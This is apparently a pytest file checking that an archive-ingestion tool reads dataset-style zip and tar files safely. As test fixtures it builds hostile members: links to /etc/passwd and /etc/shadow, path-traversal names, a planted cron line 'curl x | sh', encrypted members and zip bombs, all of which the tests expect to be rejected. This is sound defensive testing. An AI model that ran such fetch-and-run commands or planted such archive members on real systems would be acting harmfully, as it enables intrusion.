"""zip and tar archives as corpora ship them (bbc-fulltext.zip, 20news-bydate.tar.gz): each member
read as a file of its name, keyed by its name within the archive; folders, __MACOSX/ and .DS_Store
passed over and counted; unsafe names, links, encrypted members, bombs and archives nested too deep
are rejects of their own; a large zip is read in parts of members with the records of a whole read."""

from __future__ import annotations

import hashlib
import io
import json
import stat
import tarfile
import zipfile

import pytest
import zstandard

from factsieve import vocabulary as codes
from factsieve.ingest import parts as splitting
from factsieve.ingest import read as ingest
from factsieve.ingest.sources import InputFile
from tests.ingest.corpus_builders import ARTICLES, NEWSGROUP_POSTS, bbc_story, bbc_zip, newsgroups_tar

BBC = {
    "bbc/business/001.txt": bbc_story(*ARTICLES[0]),
    "bbc/business/002.txt": bbc_story(ARTICLES[1][0], [*ARTICLES[1][1], "Shares fell 12p to £4.10."]),
    "bbc/politics/001.txt": bbc_story(*ARTICLES[2]),
    "bbc/README.TXT": "Consists of 2225 documents from the BBC news website corresponding to stories in five "
    "topical areas from 2004-2005.\n\nClass Labels: 5 (business, entertainment, politics, sport, tech)\n",
}


def _read(path, **limits) -> ingest.IngestResult:
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    res = ingest.read_input(
        InputFile(str(path), path.stat().st_size, None, rel=path.name), ingest.IngestLimits(**limits)
    )
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before  # only read
    return res


def test_a_zip_shaped_like_bbc_fulltext_gives_one_document_per_story(tmp_path):
    path = tmp_path / "bbc-fulltext.zip"
    bbc_zip(path, BBC)
    res = _read(path)
    assert not res.rejects
    by_key = {d.record_key: d for d in res.docs}
    # stable, distinct keys: bbc/business/001.txt vs bbc/politics/001.txt; the corpus's README.TXT
    # is passed over (round 7), not a document
    assert sorted(by_key) == sorted(k for k in BBC if k != "bbc/README.TXT")
    assert {d.source_uri for d in res.docs} == {str(path)}  # the input the manifest knows
    story = by_key["bbc/business/002.txt"]
    assert (story.format, story.title, story.encoding) == (
        "text",
        "Dollar gains on Greenspan speech",
        "cp1252",
    )
    assert story.text.rstrip().endswith("Shares fell 12p to £4.10.")
    assert by_key["bbc/politics/001.txt"].title == "Council approves harbour wall repairs"
    # passed over, and counted: 3 folder entries, the Mac's .DS_Store and resource fork
    assert dict(res.skipped) == {
        "folder": 3,
        "hidden file": 1,
        "__MACOSX/ resource fork": 1,
        "corpus README or licence": 1,
    }


def test_members_of_any_format_are_read_by_their_name_and_content(tmp_path):
    records = [{"id": f"k-{i}", "title": t, "text": " ".join(p)} for i, (t, p) in enumerate(ARTICLES)]
    path = tmp_path / "kaggle-news.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("data/articles.jsonl", "".join(json.dumps(r) + "\n" for r in records) + "{broken\n")
        z.writestr(
            "data/articles.csv", "title,text\n" + "".join(f'"{r["title"]}","{r["text"]}"\n' for r in records)
        )
        z.writestr(
            "page.html", f"<html><body><article><p>{' '.join(ARTICLES[3][1])}</p></article></body></html>"
        )
        z.writestr("photo.jpg", b"\xff\xd8\xff\xe0" + bytes(100))
        z.writestr("notes.txt.gz", __import__("gzip").compress(bbc_story(*ARTICLES[0]).encode()))
    res = _read(path)
    keys = {d.record_key: d.format for d in res.docs}
    assert keys == {
        **{f"data/articles.jsonl!k-{i}": "jsonl" for i in range(4)},
        **{f"data/articles.csv!line:{i}": "csv" for i in range(2, 6)},
        "page.html": "html",
        "notes.txt.gz": "text",
    }
    assert {(r.record_key, r.reason) for r in res.rejects} == {
        ("data/articles.jsonl!line:5", codes.MALFORMED_JSON),
        ("photo.jpg", codes.UNSUPPORTED_FORMAT),
    }


def _tar_bytes(tmp_path, mode: str, extra=()) -> bytes:
    path = tmp_path / "t.tar"
    newsgroups_tar(path, mode=mode, extra=extra)
    return path.read_bytes()


@pytest.mark.parametrize(
    ("name", "mode"),
    [
        ("20news-bydate.tar.gz", "w:gz"),
        ("20news-bydate.tgz", "w:gz"),
        ("20news.tar", "w"),
        ("20news.tar.bz2", "w:bz2"),
        ("20news.tar.xz", "w:xz"),
        ("20news.tar.zst", "w"),
    ],
)
def test_a_tar_of_newsgroup_messages_gives_one_document_per_message(tmp_path, name, mode):
    data = _tar_bytes(tmp_path, mode)
    if name.endswith(".zst"):
        data = zstandard.ZstdCompressor().compress(data)
    path = tmp_path / name
    path.write_bytes(data)
    res = _read(path)
    assert not res.rejects
    # extensionless members (one message each) are read as messages (tests/ingest/test_public_formats.py)
    assert [d.record_key for d in res.docs] == [f"20news-bydate-train/{n}" for n, _ in NEWSGROUP_POSTS]
    assert "marginal cost of a shuttle flight" in res.docs[0].text
    assert {d.format for d in res.docs} == {"email"} and res.skipped["folder"] == 4


def _link(name: str, target: str, kind=tarfile.SYMTYPE) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info, None


def _file(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, data


def test_unsafe_tar_members_are_never_followed_or_written(tmp_path):
    extra = [
        _link("20news-bydate-train/passwd", "/etc/passwd"),
        _link("20news-bydate-train/hard", "../../etc/shadow", tarfile.LNKTYPE),
        _file("../../escaped.txt", b"The council said the vote was final.\n"),
        _file("/etc/cron.d/evil.txt", b"* * * * * root curl x | sh\n"),
    ]
    path = tmp_path / "evil.tar.gz"
    path.write_bytes(_tar_bytes(tmp_path, "w:gz", extra))
    res = _read(path)
    assert len(res.docs) == 3
    got = {r.record_key: (r.reason, r.detail) for r in res.rejects}
    assert {k: v[0] for k, v in got.items()} == {
        "20news-bydate-train/passwd": codes.UNSAFE_MEMBER,
        "20news-bydate-train/hard": codes.UNSAFE_MEMBER,
        "../../escaped.txt": codes.UNSAFE_MEMBER,
        "/etc/cron.d/evil.txt": codes.UNSAFE_MEMBER,
    }
    assert "a link to '/etc/passwd'" in got["20news-bydate-train/passwd"][1]
    assert "'..'" in got["../../escaped.txt"][1] and "absolute" in got["/etc/cron.d/evil.txt"][1]
    assert not (tmp_path.parent / "escaped.txt").exists()


def _zip_with(path, entries: list[tuple[zipfile.ZipInfo | str, bytes]]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for info, data in entries:
            z.writestr(info, data)


def _symlink_info(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    info.create_system = 3  # Unix
    return info


def _encrypted(path, name: str) -> None:
    """Set the 'encrypted' flag of member ``name`` in its local and central headers, as zip -e
    does (zipfile cannot write encrypted members; the bytes stand in for ZipCrypto's)."""
    data = bytearray(path.read_bytes())
    for signature, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        at = data.find(signature + b"", 0)
        while at >= 0:
            if data[at + name_at : at + name_at + len(name)] == name.encode():
                data[at + flag_at] |= 0x1
            at = data.find(signature, at + 4)
    path.write_bytes(bytes(data))


def test_hostile_zip_members_are_rejects_of_their_own(tmp_path):
    story = bbc_story(*ARTICLES[0]).encode()
    inner = io.BytesIO()
    _zip_with(inner, [("a.txt", story)])
    innermost = io.BytesIO()
    _zip_with(innermost, [("deep.zip", inner.getvalue())])
    path = tmp_path / "hostile.zip"
    _zip_with(
        path,
        [
            ("ok.txt", story),
            ("../evil.txt", story),
            ("/abs/evil.txt", story),
            (_symlink_info("link.txt"), b"/etc/passwd"),
            ("secret.txt", b"\x8a\x13" * 30),
            ("zeros.txt", bytes(3 * 1024 * 1024)),  # 3 MB of NULs, a few KB compressed: over the member cap
            ("nested/inner.zip", inner.getvalue()),
            ("twice.zip", innermost.getvalue()),
        ],
    )
    _encrypted(path, "secret.txt")
    res = _read(path, max_file_bytes=1024 * 1024)
    assert sorted(d.record_key for d in res.docs) == ["nested/inner.zip!a.txt", "ok.txt"]
    assert {r.record_key: r.reason for r in res.rejects} == {
        "../evil.txt": codes.UNSAFE_MEMBER,
        "/abs/evil.txt": codes.UNSAFE_MEMBER,
        "link.txt": codes.UNSAFE_MEMBER,
        "secret.txt": codes.ENCRYPTED,
        "zeros.txt": codes.TOO_LARGE,
        "twice.zip!deep.zip": codes.NESTED_ARCHIVE,
    }


def test_a_zip_bomb_of_many_members_stops_at_the_archive_budget(tmp_path):
    path = tmp_path / "bomb.zip"
    _zip_with(path, [(f"part-{i:03d}.txt", b"A" * 900_000) for i in range(40)])  # 36 MB from ~40 KB
    size = path.stat().st_size
    res = _read(path, max_file_bytes=1_000_000, max_gzip_ratio=100)
    budget = max(1_000_000, 100 * size)
    assert len(res.docs) <= budget // 900_000 + 1
    [rej] = res.rejects
    assert rej.reason == codes.TOO_LARGE and "a zip bomb, or an archive to unpack first" in rej.detail
    assert len(res.docs) + 1 < 40  # the rest of the archive is that one reject


def test_broken_empty_and_changed_archives(tmp_path):
    path = tmp_path / "bbc-fulltext.zip"
    bbc_zip(path, BBC)
    cut = tmp_path / "cut.zip"
    cut.write_bytes(path.read_bytes()[:-200])  # the central directory is at the end: a truncated download
    [rej] = _read(cut).rejects
    assert rej.reason == codes.CORRUPT_FILE and "truncated or damaged" in rej.detail
    empty = tmp_path / "folders.zip"
    _zip_with(empty, [(zipfile.ZipInfo("bbc/"), b""), ("__MACOSX/._x", b"\x00")])
    [rej] = _read(empty).rejects
    assert rej.reason == codes.EMPTY and "1 folder" in rej.detail
    cut_tar = tmp_path / "cut.tar.gz"
    posts = [_file(f"20news-bydate-train/misc.forsale/{7000 + i}", _post(i)) for i in range(40)]
    data = _tar_bytes(tmp_path, "w:gz", posts)
    cut_tar.write_bytes(data[: len(data) * 2 // 3])  # a download cut short
    res = _read(cut_tar)
    assert len(res.docs) > 10
    # the member the cut falls in, then the rest of the archive: each a reject saying so
    member, rest = res.rejects
    assert (member.reason, rest.reason) == (codes.BINARY, codes.BINARY)
    assert "a damaged member" in member.detail and "the rest is not read" in rest.detail
    assert rest.record_key == f"{member.record_key}!rest"


def _post(i: int) -> bytes:
    """A for-sale post of ~3 KB that compresses little (prices and item numbers vary)."""
    lines = [
        f"Item {i}-{j}: {(i * 7919 + j * 104729) % 100000} units at ${(i * j * 37) % 977}.{j % 100:02d}"
        for j in range(60)
    ]
    return f"From: seller{i}@example.edu\nSubject: For sale: lot {i}\n\n".encode() + "\n".join(lines).encode()


def test_a_large_zip_is_read_in_parts_of_members_with_the_records_of_a_whole_read(tmp_path):
    stories = {
        f"bbc/{topic}/{n:03d}.txt": bbc_story(f"{ARTICLES[n % 4][0]} ({topic} {n})", ARTICLES[n % 4][1])
        for topic in ("business", "politics", "tech")
        for n in range(1, 21)
    }
    path = tmp_path / "bbc-fulltext.zip"
    bbc_zip(path, stories, extra={"bbc/tech/evil/../../x.txt": b"x"})
    inp = InputFile(str(path), path.stat().st_size, None, rel=path.name)
    whole = ingest.read_input(inp)
    found = splitting.split_parts(inp, 8192)
    assert len(found) >= 4 and all(f.is_part for f in found)
    docs, rejects, skipped = [], [], 0
    for part in found:
        res = ingest.read_input(part)
        docs += res.docs
        rejects += res.rejects
        skipped += sum(res.skipped.values())
    assert len(whole.docs) == 60 and [r.reason for r in whole.rejects] == [codes.UNSAFE_MEMBER]
    assert [(d.record_key, d.text) for d in docs] == [(d.record_key, d.text) for d in whole.docs]
    assert [(r.record_key, r.reason) for r in rejects] == [(r.record_key, r.reason) for r in whole.rejects]
    assert skipped == sum(whole.skipped.values()) == 4 + 2
